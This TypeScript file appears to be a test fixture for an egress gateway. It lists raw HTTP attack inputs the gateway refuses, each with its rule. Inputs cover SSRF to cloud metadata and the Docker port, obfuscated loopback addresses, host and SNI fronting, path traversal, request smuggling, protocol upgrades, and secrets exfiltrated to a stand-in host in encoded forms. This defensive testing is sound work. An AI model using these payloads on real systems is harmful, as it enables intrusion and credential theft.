/** Attacks on the gateway by raw bytes, and the rule by which each is to be refused (THREATS 16, 21 to 27). */
import { gzipSync } from "node:zlib";

export const SECRET = "registry-credential-51d2e87f3a9c";
/** Bytes that one upload may have. */
export const UPLOAD = 8_192;

export interface Attack {
  readonly name: string;
  readonly bytes: readonly string[];
  readonly tls?: string;
  readonly sni?: string;
  /** The rule by which it is refused; `-`: refused before any rule, as what it is not. */
  readonly rule: string;
}

const CLOSE = "Connection: close\r\n\r\n";

function requestOf(url: string, more = "", method = "GET"): string[] {
  return [`${method} ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}${CLOSE}`];
}

function posted(url: string, body: string, more = ""): string[] {
  return [
    `POST ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${more}Content-Length: ${body.length}\r\n${CLOSE}`,
    body,
  ];
}

/**
 * @param port of a host `api.test` of which some things may be asked
 * @param local of a service of this machine that nobody is to reach
 */
export function attacksOn(port: number, local: number): Attack[] {
  const api = `https://api.test:${port}`;
  const inside = { tls: `api.test:${port}`, sni: "api.test" };
  const host = `Host: api.test:${port}\r\n`;
  const plainly = (url: string) => requestOf(url.replace("PORT", String(local)));
  const raw = (target: string, header: string) => [`GET ${target} HTTP/1.1\r\nHost: ${header}\r\n${CLOSE}`];
  return [
    ...(
      [
        ["16: a service of this machine by its address", "http://127.0.0.1:PORT/", "gateway.address"],
        ["16: the engine's port", "http://172.17.0.1:2375/containers/json", "gateway.address"],
        ["16: the metadata address", "http://169.254.169.254/latest/meta-data/", "gateway.address"],
        ["16: the metadata address by a name", "http://metadata.test/latest/meta-data/", "gateway.address"],
        ["16: this machine by a name of its own address", "http://own.test:PORT/", "gateway.address"],
        ["16: localhost", "http://localhost:PORT/", "gateway.address"],
        ["16: a private network", "http://private.test/", "gateway.address"],
        ["16: an address that no rule names", "http://192.168.0.1/", "default"],
        ["21: IPv6's loopback", "http://[::1]:PORT/", "default"],
        ["21: a mapped address", "http://[::ffff:127.0.0.1]:PORT/", "gateway.target"],
        ["21: a name of a mapped address", "http://mapped.test:PORT/", "gateway.address"],
        ["21: a name of a NAT64 address", "http://nat64.test:PORT/", "gateway.address"],
        ["21: a public name that leads to loopback", "http://local.test:PORT/", "gateway.address"],
      ] as const
    ).map(([name, url, rule]) => ({ name, bytes: plainly(url), rule })),
    ...(
      [
        ["21: a decimal address", `http://2130706433:${local}/`, `2130706433:${local}`],
        ["21: an octal address", `http://0177.0.0.1:${local}/`, `0177.0.0.1:${local}`],
        ["21: a hexadecimal address", `http://0x7f000001:${local}/`, `0x7f000001:${local}`],
        ["21: a short address", `http://127.1:${local}/`, `127.1:${local}`],
        ["22: a trailing dot", `http://denied.test.:${local}/`, `denied.test.:${local}`],
        ["22: a user before the host", `http://api.test@denied.test:${local}/`, `denied.test:${local}`],
        ["22: a NUL in the host", `http://api.test%00.denied.test:${local}/`, `api.test:${local}`],
      ] as const
    ).map(([name, target, header]) => ({ name, bytes: raw(target, header), rule: "gateway.target" })),
    {
      name: "22: upper case of a denied host",
      bytes: raw(`http://DENIED.test:${local}/`, `denied.TEST:${local}`),
      rule: "never",
    },
    {
      name: "22: fronting by the Host header",
      bytes: raw(`http://api.test:${local}/public/x`, `denied.test:${local}`),
      rule: "gateway.host",
    },
    {
      name: "22: fronting inside a tunnel",
      ...inside,
      bytes: [`GET /public/x HTTP/1.1\r\nHost: denied.test\r\n${CLOSE}`],
      rule: "gateway.host",
    },
    {
      name: "22: another SNI",
      ...inside,
      sni: "denied.test",
      bytes: [`GET /public/x HTTP/1.1\r\n${host}${CLOSE}`],
      rule: "gateway.sni",
    },
    {
      name: "22: a CONNECT to a denied host",
      tls: `denied.test:${port}`,
      sni: "denied.test",
      bytes: [`GET / HTTP/1.1\r\nHost: denied.test:${port}\r\n${CLOSE}`],
      rule: "never",
    },
    ...[
      "/public/../private",
      "/public/%2e%2e/private",
      "/public//private",
      "/public/%2fprivate",
      "/public/..%5cprivate",
    ].map((path) => ({
      name: `23: ${path}`,
      ...inside,
      bytes: [`GET ${path} HTTP/1.1\r\n${host}${CLOSE}`],
      rule: "gateway.target",
    })),
    {
      name: "24: something other than TLS in a tunnel",
      bytes: [`CONNECT api.test:${port} HTTP/1.1\r\n${host}\r\nGET / HTTP/1.1\r\n\r\n`],
      rule: "gateway.tls",
    },
    ...["h2c", "websocket"].map((protocol) => ({
      name: `24: an upgrade to ${protocol}`,
      ...inside,
      bytes: [`GET /public/x HTTP/1.1\r\n${host}Connection: Upgrade, close\r\nUpgrade: ${protocol}\r\n\r\n`],
      rule: "gateway.upgrade",
    })),
    ...(
      [
        ["24: a length and an encoding", "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"],
        ["24: two Host headers", "Host: denied.test\r\n"],
        ["24: a folded header", "X-A: b\r\n c\r\n"],
      ] as const
    ).map(([name, header]) => ({
      name,
      ...inside,
      bytes: [
        `POST /upload HTTP/1.1\r\n${host}${header}${CLOSE}0\r\n\r\nGET /public/smuggled HTTP/1.1\r\n${host}${CLOSE}`,
      ],
      rule: "-",
    })),
    ...(
      [
        ["in the path", { bytes: requestOf(`${api}/public/${SECRET}`) }],
        ["in the query", { bytes: requestOf(`${api}/public/x?q=${SECRET}`) }],
        ["in a header", { bytes: requestOf(`${api}/public/x`, `X-Note: ${SECRET}\r\n`) }],
        [
          "in the header of another account",
          { bytes: requestOf("http://elsewhere.test/", `Authorization: Bearer ${SECRET}\r\n`) },
        ],
        ["in a body", { bytes: posted(`${api}/upload`, `x=${SECRET}`) }],
        [
          "in a body, in base64",
          { bytes: posted(`${api}/upload`, Buffer.from(`ab${SECRET}`).toString("base64")) },
        ],
        ["in a body, in hex", { bytes: posted(`${api}/upload`, Buffer.from(SECRET).toString("hex")) }],
        ["in a body, reversed", { bytes: posted(`${api}/upload`, [...SECRET].reverse().join("")) }],
        [
          "in a body, packed",
          { bytes: posted(`${api}/upload`, gzipSync(`a ${SECRET} b`).toString("latin1")) },
        ],
        [
          "in pieces of chunks",
          {
            bytes: [
              `POST ${api}/upload HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n${CLOSE}`,
              ...[...SECRET].map((letter) => `1\r\n${letter}\r\n`),
              "0\r\n\r\n",
            ],
          },
        ],
      ] as const
    ).map(([where, attack]) => ({ name: `25: a secret ${where}`, ...attack, rule: "builtin.secret" })),
    {
      name: "26: a placeholder to a foreign host",
      bytes: requestOf("http://elsewhere.test/", "Authorization: Bearer PLACEHOLDER\r\n"),
      rule: "builtin.placeholder",
    },
    {
      name: "27: a body larger than its rule lets it be",
      bytes: posted(`${api}/upload`, "x".repeat(UPLOAD)),
      rule: "maxBytesOut",
    },
  ];
}
